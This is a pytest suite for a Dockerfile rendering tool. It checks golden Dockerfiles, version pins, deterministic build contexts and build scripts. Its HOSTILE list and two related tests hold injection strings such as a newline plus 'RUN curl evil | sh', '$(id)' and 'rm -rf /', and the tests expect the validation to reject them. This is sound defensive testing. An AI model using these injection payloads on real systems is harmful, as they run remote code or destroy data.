"""Rendering: golden Dockerfiles, byte-identical contexts, hostile values never reach the Dockerfile, hadolint."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sparkforge.errors import RecipeError, RenderError
from sparkforge.imagebuild.lint import hadolint_argv
from sparkforge.imagebuild.render import double_quote, render_context, render_dockerfile, shell_quote
from sparkforge.recipe import plan
from sparkforge.recipe.loader import REPO_ROOT, Recipe, list_recipe_names, load_recipe
from tests.recipe_files import write_recipe_file

GOLDEN = Path(__file__).parent / "golden"
# Regenerate after an intended template change: SPARKFORGE_UPDATE_GOLDEN=1 python -m pytest tests/unit/test_render.py
UPDATE = os.environ.get("SPARKFORGE_UPDATE_GOLDEN") == "1"


@pytest.mark.parametrize("name", ["vllm-qwen35", "vllm-qwen35-wheels"])
def test_golden_dockerfile(name: str) -> None:
    text = render_dockerfile(load_recipe(name))
    golden = GOLDEN / f"{name}.Dockerfile"
    if UPDATE and (not golden.exists() or golden.read_text() != text):
        golden.parent.mkdir(exist_ok=True)
        golden.write_text(text)
        pytest.fail(f"{golden} rewritten; review the diff and run again without SPARKFORGE_UPDATE_GOLDEN")
    assert golden.exists(), "golden file missing; run with SPARKFORGE_UPDATE_GOLDEN=1 once"
    assert text == golden.read_text(), (
        f"rendered Dockerfile differs from {golden}; if intended, regenerate it"
    )


def test_source_dockerfile_pins_everything() -> None:
    text = render_dockerfile(load_recipe("vllm-qwen35"))
    pinned = "@sha256:5dc1bca23d05bd37b011be68ec470c03b403a5da07ec3a86e41af9470e9d0cc6"
    assert sum(line.startswith("ARG ") and pinned in line for line in text.splitlines()) == 1
    assert f'dev.sparkforge.base.builder="nvidia/cuda:13.0.2-devel-ubuntu24.04{pinned}"' in text
    assert "ubuntu:24.04@sha256:" in text  # runtime: no CUDA base, the wheels carry CUDA once
    assert "--index-url https://download.pytorch.org/whl/cu130 torch==2.13.0" in text
    assert "transformers==5.17.0" in text
    assert "--commit db9527a46873454610df6dbedf79a36d6bf1a7f6" in text
    assert 'TORCH_CUDA_ARCH_LIST="12.1a"' in text
    assert "git apply --check /opt/sparkforge/patches/0001-cmake-keep-sm121-on-cuda13.patch" in text
    assert 'TRITON_PTXAS_BLACKWELL_PATH="/opt/venv/cuda/bin/ptxas"' in text
    assert "ln -s /opt/venv/lib/python3.12/site-packages/nvidia/cu13 /opt/venv/cuda" in text
    assert "--mount=type=bind,from=build,source=/wheels" in text  # the wheel is installed, not shipped
    for stage in ("toolchain", "source", "build", "base", "runtime"):
        assert f" AS {stage}\n" in text
    assert "--mount=type=secret,id=ca" in text


def test_wheel_dockerfile_has_no_compile_stages() -> None:
    text = render_dockerfile(load_recipe("vllm-qwen35-wheels"))
    assert " AS build" not in text and " AS source" not in text
    assert "vllm==0.33.0" in text and "torch==2.14.0" in text


def test_every_arg_has_a_why_comment() -> None:
    for name in list_recipe_names():
        lines = render_dockerfile(load_recipe(name)).splitlines()
        for number, line in enumerate(lines):
            if line.startswith("ARG "):
                assert lines[number - 1].startswith("#"), f"{name}: ARG without a comment: {line}"


def _tree_digest(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() + oct(p.stat().st_mode)
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.mark.parametrize("name", ["vllm-qwen35", "vllm-qwen35-wheels"])
def test_render_is_deterministic(name: str, tmp_path: Path) -> None:
    recipe = load_recipe(name)
    first = render_context(recipe, tmp_path / "a").path
    second = render_context(load_recipe(name), tmp_path / "b").path
    assert _tree_digest(first) == _tree_digest(second)
    (first / "stale-file").write_text("x")
    again = render_context(recipe, tmp_path / "a").path
    assert not (again / "stale-file").exists(), "render must start from an empty directory"


def test_context_layout(tmp_path: Path) -> None:
    recipe = load_recipe("vllm-qwen35")
    root = render_context(recipe, tmp_path).path
    for item in (
        "Dockerfile",
        "build.sh",
        "lock.json",
        "constraints.txt",
        "patches/series",
        "image-tests/run_checks.py",  # the in-image suite (sparkforge/verify/inimage) ...
        "image-tests/checklist.py",
        "image-tests/checks_fp8.py",
        "image-tests/cluster_facts.py",  # ... and the doctor's helpers (tests/image), in one folder
        "files/with-ca",
        "files/fetch-source.py",
    ):
        assert (root / item).is_file(), item
    lock = json.loads((root / "lock.json").read_text())
    assert lock["recipe_hash"] == recipe.hash
    patch = REPO_ROOT / "patches/vllm/0001-cmake-keep-sm121-on-cuda13.patch"
    assert lock["patches"][0]["sha256"] == hashlib.sha256(patch.read_bytes()).hexdigest()
    assert (root / "patches/series").read_text() == "0001-cmake-keep-sm121-on-cuda13.patch\n"
    assert "torch==2.13.0" in (root / "constraints.txt").read_text()
    assert os.access(root / "build.sh", os.X_OK)


def test_labels_carry_every_pin() -> None:
    recipe = load_recipe("vllm-qwen35")
    labels = plan.labels(recipe)
    assert labels["dev.sparkforge.recipe-hash"] == recipe.hash
    assert labels["dev.sparkforge.pin.vllm"] == "0.31.0@db9527a46873454610df6dbedf79a36d6bf1a7f6"
    assert labels["dev.sparkforge.gpu"] == "sm_121"
    text = render_dockerfile(recipe)
    for key, value in labels.items():
        assert f'{key}="{value}"' in text


HOSTILE = ["x\nRUN curl evil | sh", "$(id)", "`id`", "a && rm -rf /", 'a"; rm -rf / #', "a\\\nRUN id", "a' b"]
FIELDS = [
    "description",
    "gpu",
    "cuda",
    "python",
    "images.builder",
    "components.vllm.version",
    "components.vllm.commit",
    "components.vllm.repository",
    "components.torch.index",
    "components.flashinfer.package",
    "build.torch_cuda_arch_list.0",
    "models.architectures.0",
    "env.TRITON_PTXAS_PATH",
    "publish.repository",
    "publish.tags.0",
    "audit.require.0",
]


def _set(data: dict, dotted: str, value: str) -> None:
    parts = dotted.split(".")
    node = data
    for part in parts[:-1]:
        node = node[int(part)] if isinstance(node, list) else node[part]
    last = parts[-1]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_values_rejected(field: str, value: str, tmp_path: Path) -> None:
    data = load_recipe("vllm-qwen35").resolved()
    _set(data, field, value)
    path = write_recipe_file(tmp_path / "hostile.yaml", data, extends=None)
    with pytest.raises(RecipeError) as info:
        load_recipe(str(path))
    assert field.rsplit(".", 1)[0] in str(info.value)


def test_hostile_env_key_rejected(tmp_path: Path, write_recipe) -> None:
    path = write_recipe('env:\n  "A=1\\nRUN id": x\n')
    with pytest.raises(RecipeError, match="env"):
        load_recipe(str(path))


def test_render_guard_catches_values_that_skip_validation() -> None:
    # Defence in depth: even a model built without validation cannot inject through the filters.
    recipe = load_recipe("vllm-qwen35-wheels")
    hostile_model = recipe.model.model_copy(update={"description": "ok\nRUN curl evil | sh"})
    with pytest.raises(RenderError, match="inject"):
        render_dockerfile(Recipe(recipe.name, recipe.path, hostile_model, recipe.chain))


@pytest.mark.parametrize("value", HOSTILE)
def test_quoting_filters_refuse_or_neutralise(value: str) -> None:
    for quote in (shell_quote, double_quote):
        if any(ch in value for ch in "\n$`\\"):
            with pytest.raises(RenderError):
                quote(value)
        else:
            quoted = quote(value)
            assert quoted.startswith(("'", '"'))


@pytest.mark.skipif(
    shutil.which("hadolint") is None, reason="hadolint not installed (bash .ci/install, then the venv)"
)
@pytest.mark.parametrize("name", ["vllm-qwen35", "vllm-qwen35-wheels"])
def test_hadolint_passes(name: str, tmp_path: Path) -> None:
    context = render_context(load_recipe(name), tmp_path)
    proc = subprocess.run(hadolint_argv(context.dockerfile), capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_build_dry_prints_the_buildkit_command() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "invoke", "build", "--recipe", "vllm-qwen35", "--dry", "--no-preflight"],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout + proc.stderr
    assert "--platform linux/arm64" in out and "--target runtime" in out
    assert f"sparkforge-candidate/vllm-qwen35:{load_recipe('vllm-qwen35').hash[:12]}-arm64" in out
    assert "then: verify" in out


def test_build_script_is_the_engine_argv(tmp_path: Path) -> None:
    # One build command: build.sh is rendered from buildkit.build_command, not written beside it by hand.
    import shlex

    from sparkforge.engine import Engine
    from sparkforge.imagebuild.buildkit import BuildRequest, build_command

    recipe = load_recipe("vllm-qwen35-wheels")
    script = (render_context(recipe, tmp_path).path / "build.sh").read_text()
    request = BuildRequest(
        context=Path("."),
        platform="linux/arm64",
        target="runtime",
        tags=(plan.candidate_tag(recipe, "linux/arm64"),),
        build_args={"SPARKFORGE_CREATED": "X", "SPARKFORGE_REVISION": "R", "SOURCE_DATE_EPOCH": "E"},
    )
    engines = (
        Engine("docker", "buildx", "", "docker"),
        Engine("docker", "buildx", "", "docker-container"),
        Engine("docker", "buildkit", ""),
    )
    for engine in engines:
        argv = (
            shlex.join(build_command(engine, request).argv[:-1])
            .replace("SPARKFORGE_CREATED=X", '"SPARKFORGE_CREATED=$created"')
            .replace("SPARKFORGE_REVISION=R", '"SPARKFORGE_REVISION=$revision"')
            .replace("SOURCE_DATE_EPOCH=E", '"SOURCE_DATE_EPOCH=$SOURCE_DATE_EPOCH"')
            .replace(str(request.image_tar), "../.vllm-qwen35-wheels-runtime.image.tar")
        )
        assert argv in script
    # The epoch is the pinned runtime base's `created` (a wheels recipe has no builder stage), never the clock.
    assert f"for ref in {recipe.model.images.runtime}; do" in script and "$(date -u +" not in script
    assert "rewrite-timestamp=true" in script and "docker load --input ../.vllm-qwen35-wheels" in script
    proc = subprocess.run(["bash", "-n", str(tmp_path / recipe.name / "build.sh")], capture_output=True)
    assert proc.returncode == 0, proc.stderr
